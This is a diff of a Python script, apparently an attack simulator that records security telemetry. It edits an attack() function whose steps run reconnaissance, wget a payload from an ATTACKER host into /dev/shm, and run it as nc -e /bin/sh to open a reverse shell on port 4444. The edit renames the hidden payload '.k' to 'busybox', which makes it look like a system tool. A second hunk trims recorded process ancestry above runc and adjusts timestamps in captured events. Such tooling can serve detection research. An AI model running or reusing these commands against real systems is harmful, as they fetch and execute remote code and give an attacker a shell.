@@ -192,8 +192,8 @@ def attack(frontend, reviews):
 
     steps = [
         (0, "id; hostname; cat /etc/resolv.conf"),
-        (6, f"wget -q -O /dev/shm/.k http://{ATTACKER}:8000/k && chmod 755 /dev/shm/.k"),
-        (10, f"/dev/shm/.k nc {ATTACKER} 4444 -e /bin/sh"),
+        (6, f"wget -q -O /dev/shm/busybox http://{ATTACKER}:8000/k && chmod 755 /dev/shm/busybox"),
+        (10, f"/dev/shm/busybox nc {ATTACKER} 4444 -e /bin/sh"),
     ]
     began = time.monotonic()
     started = []
@@ -279,6 +279,12 @@ def put_right(events, pods, began):
         if "since" in what:
             what["since"] = moved(what["since"])
         process = event.get("process", {})
+        # What is above the container runtime is the machine that recorded.
+        above = process.get("ancestors", [])
+        for place, ancestor in enumerate(above):
+            if ancestor.get("executable", "").endswith("/runc"):
+                del above[place + 1 :]
+                break
         if "started" in process:
             process["started"] = moved(process["started"])
         text = json.dumps(event, separators=(",", ":"), ensure_ascii=False)
